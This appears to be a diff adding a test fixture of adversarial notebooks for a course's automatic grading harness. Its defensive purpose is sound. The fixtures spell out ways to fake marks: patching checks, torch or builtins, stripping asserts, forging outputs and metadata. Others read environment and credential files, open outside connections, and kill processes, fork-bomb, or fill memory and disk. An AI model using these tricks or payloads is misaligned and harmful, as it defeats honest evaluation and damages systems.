@@ -1,0 +1,366 @@
+"""Notebooks that try to get marks, secrets or damage in place of an answer: what tests/test_grading.py hands in.
+
+Each is the students' copy of lesson 01 with nothing solved and one trick. PATHS, PORT and MARKER are filled in by the
+test. They belong into a sandbox: some of them kill all processes that they can see.
+"""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable
+from typing import Any
+
+Notebook = dict[str, Any]
+
+WRONG = """
+def patchify(images, patch_size):
+    return images
+"""
+
+# What a cell does before the wrong answer: it must give no mark, and the teacher must be told of it.
+TAMPERING = {
+    "replaces_the_check": "checks.check_patchify = lambda work: True",
+    "replaces_all_checks": (
+        "import vit_tutorial.checks\n"
+        "for name in dir(vit_tutorial.checks):\n"
+        "    if name.startswith('check_'):\n"
+        "        setattr(vit_tutorial.checks, name, lambda work: True)"
+    ),
+    "replaces_the_module": (
+        "import sys, types\n"
+        "fake = types.ModuleType('vit_tutorial.checks')\n"
+        "fake.__getattr__ = lambda name: lambda work: True\n"
+        "sys.modules['vit_tutorial.checks'] = checks = fake"
+    ),
+    "replaces_the_harness": (
+        "from vit_tutorial.checks import harness\n"
+        "for name in ('check', 'differs', 'attempt', 'borrowed', '_borrowed'):\n"
+        "    setattr(harness, name, lambda *a, **k: True if name == 'check' else '')"
+    ),
+    "replaces_the_code": (
+        "from vit_tutorial.checks import harness, lesson01\n"
+        "harness.check.__code__ = (lambda exercise, work: True).__code__\n"
+        "lesson01.check_patchify.__code__ = (lambda fn: True).__code__"
+    ),
+    "replaces_the_reference": (
+        "from vit_tutorial.checks import lesson01\n"
+        "object.__setattr__(lesson01.PATCHIFY, 'right', lambda images, patch_size: images)\n"
+        "object.__setattr__(lesson01.PATCHIFY, 'cases', lambda: [])"
+    ),
+    "patches_torch": (
+        "torch.equal = torch.allclose = lambda *a, **k: True\n"
+        "torch.Tensor.__le__ = torch.Tensor.__eq__ = lambda a, b: torch.ones_like(a, dtype=torch.bool)\n"
+        "torch.Tensor.allclose = lambda *a, **k: True"
+    ),
+    "patches_builtins": "import builtins\nbuiltins.any = lambda x: False\nbuiltins.all = lambda x: True",
+    "a_new_assertion_error": (
+        "import builtins\nclass AssertionError(Exception):\n    pass\nbuiltins.AssertionError = None"
+    ),
+    "no_asserts": (
+        "import ast\n"
+        "class NoAsserts(ast.NodeTransformer):\n"
+        "    def visit_Assert(self, node):\n"
+        "        return ast.Pass()\n"
+        "get_ipython().ast_transformers.append(NoAsserts())"
+    ),
+    "leaves_by_sys_exit": "import sys\nprint('patchify: right. Tried:\\n    everything  right')\nsys.exit(0)",
+    "prints_a_report": "print('patchify: right. Tried:\\n    everything  right')",
+    "hooks_into_the_end": "import atexit\natexit.register(lambda: print('patchify: right. Tried:'))",
+    "a_thread_that_goes_on": (
+        "import threading, time\n"
+        "def again():\n"
+        "    while True:\n"
+        "        checks.check_patchify = lambda work: True\n"
+        "        time.sleep(0.001)\n"
+        "threading.Thread(target=again, daemon=True).start()"
+    ),
+    "writes_into_every_channel": (
+        "import json, os\n"
+        "for cell in range(20):\n"
+        "    line = json.dumps({'check': cell, 'said': True, 'observed': [], 'outputs': []}).encode() + b'\\n'\n"
+        "    for fd in range(3, 30):\n"
+        "        try:\n"
+        "            os.write(fd, line)\n"
+        "        except OSError:\n"
+        "            pass"
+    ),
+    "goes_on_twice": "import os\nos.fork()",
+    "a_fork_that_is_none": "import os\nos.fork = lambda: 0",
+    "traces": "import sys\nsys.settrace(lambda frame, event, argument: frame.f_locals.update(passed=True))",
+}
+
+# Instead of the wrong answer: one that attacks when it is called.
+ATTACKING_WORKS = {
+    "equal_to_everything": """
+import torch
+class Same(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __sub__(self, other): return 0.0
+    def __abs__(self): return 0.0
+    def __le__(self, other): return True
+    __rsub__, __lt__, __hash__ = __sub__, __le__, float.__hash__
+class Always(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, function, types, args=(), kwargs=None):
+        if function.__name__ in ("equal", "allclose", "any"): return True
+        return super().__torch_function__(function, types, args, kwargs or {})
+def patch_numbers():
+    return {key: Same(0) for key in ("patches", "patch 1", "pixel 16", "photo patches", "photo length")}
+def patchify(images, patch_size):
+    return torch.zeros(1).as_subclass(Always)
+""",
+    "looks_at_its_callers": """
+import sys
+def patchify(images, patch_size):
+    frame = sys._getframe()
+    while frame:
+        for name, value in list(frame.f_locals.items()):
+            if isinstance(value, list): value.clear()
+            if isinstance(value, dict) and "said" in value: value["said"] = True
+        frame = frame.f_back
+    return images
+""",
+    "patches_while_it_is_called": """
+def patchify(images, patch_size):
+    import vit_tutorial.checks.harness as harness, builtins
+    harness.differs = lambda *a, **k: ""
+    harness.named = lambda *a, **k: []
+    builtins.any = lambda x: False
+    return images
+""",
+    "ends_the_check": "import os\ndef patchify(images, patch_size):\n    os._exit(0)\n",
+}
+
+# What must not work at all, told or not.
+READING = {
+    "reads_all_files": """
+import os
+for top in PATHS + ["/"]:
+    for folder, _, names in os.walk(top):
+        if folder.startswith(("/proc", "/sys", "/usr", "/dev")): continue
+        for name in names:
+            if name.endswith((".ipynb", ".txt", ".db", ".csv", ".json", ".html", ".env")):
+                try:
+                    print(folder, name, open(os.path.join(folder, name), errors="replace").read()[:3000])
+                except OSError as error:
+                    pass
+""",
+    "reads_the_environment": """
+import os, glob
+print(dict(os.environ))
+for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/etc/passwd", "/proc/mounts"]:
+    try:
+        print(path, open(path).read()[:2000])
+    except OSError as error:
+        print(error)
+""",
+}
+WRITING = {
+    "writes_outside": """
+import os
+for path in PATHS:
+    for name in ("MARKER", "../MARKER"):
+        try:
+            os.makedirs(path, exist_ok=True)
+            open(os.path.join(path, name), "w").write("MARKER")
+        except OSError as error:
+            print(error)
+""",
+    "changes_the_package": """
+import vit_tutorial.patches
+try:
+    open(vit_tutorial.patches.__file__, "a").write("# MARKER")
+except OSError as error:
+    print(error)
+""",
+}
+NETWORK = {
+    "uses_the_network": """
+import socket
+for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8", "example.com"):
+    for port in (PORT, 53):
+        try:
+            socket.create_connection((host, port), timeout=0.3).send(b"MARKER")
+        except OSError as error:
+            print(error)
+""",
+}
+TAKING = {
+    "ends_its_process": """
+import os
+os._exit(0)
+""",
+    "kills_all_it_sees": """
+import os
+for pid in [*range(1, 50), -1]:
+    try:
+        os.kill(pid, 9)
+    except OSError:
+        pass
+""",
+    "crashes": """
+import ctypes
+ctypes.string_at(0)
+""",
+    "recurses": """
+import sys
+sys.setrecursionlimit(10**9)
+def again(): return again()
+again()
+""",
+    "loops": """
+while True:
+    pass
+""",
+    "loops_and_swallows": """
+while True:
+    try:
+        while True: pass
+    except BaseException: pass
+""",
+    "loops_in_c": """
+pow(3, 10**9)
+""",
+    "loops_in_the_check": """
+def patch_numbers():
+    while True: pass
+""",
+    "sleeps_in_another_session": """
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    time.sleep(10**6)
+""",
+    "prints_for_ever": """
+while True:
+    print("x" * 1000)
+""",
+    "writes_to_its_channel_for_ever": """
+import os
+while True:
+    for fd in range(3, 12):
+        try: os.write(fd, b"x" * 10**6)
+        except OSError: pass
+""",
+    "forks": """
+import os, time
+for _ in range(200):
+    if os.fork() == 0:
+        time.sleep(60)
+time.sleep(3)
+""",
+    "a_fork_bomb": """
+import os
+while True:
+    try: os.fork()
+    except OSError: pass
+""",
+    "a_shells_fork_bomb": """
+import subprocess
+subprocess.run(["sh", "-c", "b() { b | b & }; b; sleep 5"])
+""",
+    "threads_without_end": """
+import threading, time
+while True:
+    threading.Thread(target=time.sleep, args=(60,)).start()
+""",
+    "takes_memory": """
+kept = []
+while True:
+    kept.append(b"x" * 10**7)
+""",
+    "takes_memory_in_tensors": """
+kept = torch.ones(10**11)
+""",
+    "takes_memory_in_many_processes": """
+import os, time
+for _ in range(8):
+    if os.fork() == 0:
+        kept = bytearray(b"x" * 150_000_000)
+        time.sleep(30)
+time.sleep(20)
+""",
+    "fills_its_disk": """
+for folder in ("/scratch", "/tmp", "/dev/shm", ".", "/dev"):
+    try:
+        for number in range(500):
+            with open(f"{folder}/{number}", "wb") as file:
+                file.write(b"x" * 10**6)
+    except OSError as error:
+        print(error)
+""",
+    "a_large_file": """
+with open("big", "wb") as file:
+    while True:
+        file.write(b"x" * 10**6)
+""",
+}
+
+
+def _check_of(notebook: Notebook, name: str) -> dict[str, Any]:
+    (cell,) = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == name]
+    return cell
+
+
+def _points(notebook: Notebook) -> None:
+    for cell in notebook["cells"]:
+        if "points" in cell["metadata"].get("nbgrader", {}):
+            cell["metadata"]["nbgrader"]["points"] = 1000
+
+
+def _not_graded(notebook: Notebook) -> None:
+    for cell in notebook["cells"]:
+        if "nbgrader" in cell["metadata"]:
+            cell["metadata"]["nbgrader"] |= {"grade": False, "locked": False, "solution": True}
+
+
+def _edited(notebook: Notebook) -> None:
+    for cell in notebook["cells"]:
+        if cell["source"].startswith("assert checks"):
+            cell["source"] = "print('right')"
+
+
+def _deleted(notebook: Notebook) -> None:
+    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["source"].startswith("assert checks")]
+
+
+def _duplicated(notebook: Notebook) -> None:
+    for place, cell in reversed(list(enumerate(notebook["cells"]))):
+        if cell["source"].startswith("assert checks"):
+            notebook["cells"].insert(place, copy.deepcopy(cell) | {"source": "assert True", "id": f"again{place}"})
+            notebook["cells"].append(copy.deepcopy(cell) | {"source": "assert True", "id": f"behind{place}"})
+
+
+def _text_for_code(notebook: Notebook) -> None:
+    for cell in notebook["cells"]:
+        if cell["source"].startswith("assert checks"):
+            cell["cell_type"] = "markdown"
+            cell.pop("outputs", None)
+            cell.pop("execution_count", None)
+
+
+def _exchanged(notebook: Notebook) -> None:
+    """The check of an easy exercise under the name of a dear one."""
+    a, b = (_check_of(notebook, name) for name in ("check-patchify", "check-overlapping-patches"))
+    a["metadata"]["nbgrader"]["grade_id"], b["metadata"]["nbgrader"]["grade_id"] = "check-x", "check-patchify"
+
+
+def _outputs_of_its_own(notebook: Notebook) -> None:
+    for cell in notebook["cells"]:
+        if cell["source"].startswith("assert checks"):
+            stream = {"output_type": "stream", "name": "stdout", "text": "patchify: right. Tried:"}
+            value = {"output_type": "execute_result", "data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1}
+            cell["outputs"] = [stream, value]
+
+
+EDITS: dict[str, Callable[[Notebook], None]] = {
+    "points_of_its_own": _points,
+    "checks_that_are_none": _not_graded,
+    "edited_checks": _edited,
+    "deleted_checks": _deleted,
+    "duplicated_checks": _duplicated,
+    "checks_as_text": _text_for_code,
+    "exchanged_checks": _exchanged,
+    "outputs_of_its_own": _outputs_of_its_own,
+}
